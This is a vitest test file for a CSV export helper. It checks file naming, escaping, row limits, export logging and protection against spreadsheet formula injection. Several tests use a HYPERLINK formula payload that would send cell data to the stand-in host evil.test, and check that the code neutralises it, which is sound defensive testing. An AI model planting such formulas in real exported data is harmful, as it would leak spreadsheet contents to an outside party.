import { describe, expect, it, vi } from "vitest";
import type { AuthContext } from "~/api/caller.server";
import { BackendError } from "~/api/http.server";
import { listTexts } from "~/domain/list-texts";
import { CSV_MAX_ROWS, csvFileName, csvResponse, neutraliseCell } from "./csv-export.server";

function fakeAuth() {
  const calls: unknown[] = [];
  const auth = {
    call: vi.fn(async (request: unknown) => {
      calls.push(request);
      return undefined;
    }),
  } as unknown as AuthContext;
  return { auth, calls };
}

describe("csvFileName", () => {
  it("follows Exported_{kind}_{date}.csv", () => {
    expect(csvFileName("sent", new Date("2026-11-21T10:00:00Z"))).toBe("Exported_sent_2026-11-21.csv");
  });
});

describe("neutraliseCell", () => {
  it.each(["=", "+", "-", "@", "\t", "\r"])("prefixes a text cell starting with %j with a quote", (first) => {
    expect(neutraliseCell(`${first}HYPERLINK("http://evil.test/?"&A1,"x")`)).toBe(
      `'${first}HYPERLINK("http://evil.test/?"&A1,"x")`,
    );
  });

  it("leaves other text, numbers and empty cells as they are", () => {
    expect(neutraliseCell("a+b@x.test")).toBe("a+b@x.test");
    expect(neutraliseCell(" =1")).toBe(" =1");
    expect(neutraliseCell(-3)).toBe(-3);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell("")).toBe("");
  });
});

describe("csvResponse", () => {
  it("writes formula-looking cells as text", async () => {
    const { auth } = fakeAuth();
    const pages = [
      [{ name: '=HYPERLINK("http://evil.test/?"&A1,"x")', email: "+1@x.test" }],
      [] as { name: string; email: string }[],
    ];
    const response = await csvResponse({
      auth,
      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
      kind: "team_report",
      fileKind: "team_report",
      header: ["Name", "Email"],
      fetchPage: async () => pages.shift() ?? [],
      toRecord: (row) => [row.name, row.email],
    });
    const lines = (await response.text())
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\n");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")",'+1@x.test`);
  });

  it("streams every page with escaping, names the file and logs the export", async () => {
    const { auth, calls } = fakeAuth();
    const pages = [[{ email: "a@x.test", note: 'He said "hi", then left' }], [] as { email: string; note: string }[]];
    const response = await csvResponse({
      auth,
      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
      kind: "unsubscription",
      fileKind: "unsubscriptions",
      header: ["Email address", "Note"],
      fetchPage: async () => pages.shift() ?? [],
      toRecord: (row) => [row.email, row.note],
      now: new Date("2026-11-21T00:00:00Z"),
    });
    expect(response.headers.get("Content-Disposition")).toBe(
      'attachment; filename="Exported_unsubscriptions_2026-11-21.csv"',
    );
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const text = (await response.text()).replace(/^\uFEFF/, "");
    expect(text).toBe('Email address,Note\na@x.test,"He said ""hi"", then left"\n');
    expect(calls).toEqual([
      expect.objectContaining({
        path: expect.objectContaining({ path: "/events" }),
        body: {
          type: "csv_export",
          params: { export_type: "unsubscription", workspace_plan: "PRO", user_plan: "PRO" },
        },
      }),
    ]);
  });

  it("stops at 30,000 rows", async () => {
    const { auth } = fakeAuth();
    const windows: { limit: number; limitOffset: number }[] = [];
    const response = await csvResponse({
      auth,
      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
      kind: "sent",
      fileKind: "sent",
      header: ["n"],
      fetchPage: async (window) => {
        windows.push(window);
        return Array.from({ length: window.limit }, (_, index) => window.limitOffset + index);
      },
      toRecord: (row) => [row],
    });
    const lines = (await response.text()).trim().split("\n");
    expect(lines).toHaveLength(CSV_MAX_ROWS + 1);
    expect(windows[0]).toEqual({ limit: 100, limitOffset: 0 });
    expect(windows.at(-1)).toEqual({ limit: 900, limitOffset: 29_100 });
  });

  it("answers a query the backend refuses with a plain 400 before streaming, and logs no export", async () => {
    const { auth, calls } = fakeAuth();
    const response = await csvResponse({
      auth,
      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
      kind: "sent",
      fileKind: "sent",
      header: ["n"],
      fetchPage: async () => {
        throw new BackendError(400, "invalid_request", "filterBy: search has a malformed percent-escape", "/x");
      },
      toRecord: (row: number) => [row],
    });
    expect(response.status).toBe(400);
    expect(response.headers.get("Content-Type")).toBe("text/plain; charset=utf-8");
    expect(await response.text()).toBe(listTexts.exportRefused);
    expect(calls).toEqual([]);
  });

  it("lets other failures of the first page through", async () => {
    const { auth } = fakeAuth();
    const failure = new BackendError(503, undefined, undefined, "/x");
    await expect(
      csvResponse({
        auth,
        eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
        kind: "sent",
        fileKind: "sent",
        header: ["n"],
        fetchPage: async () => {
          throw failure;
        },
        toRecord: (row: number) => [row],
      }),
    ).rejects.toBe(failure);
  });
});
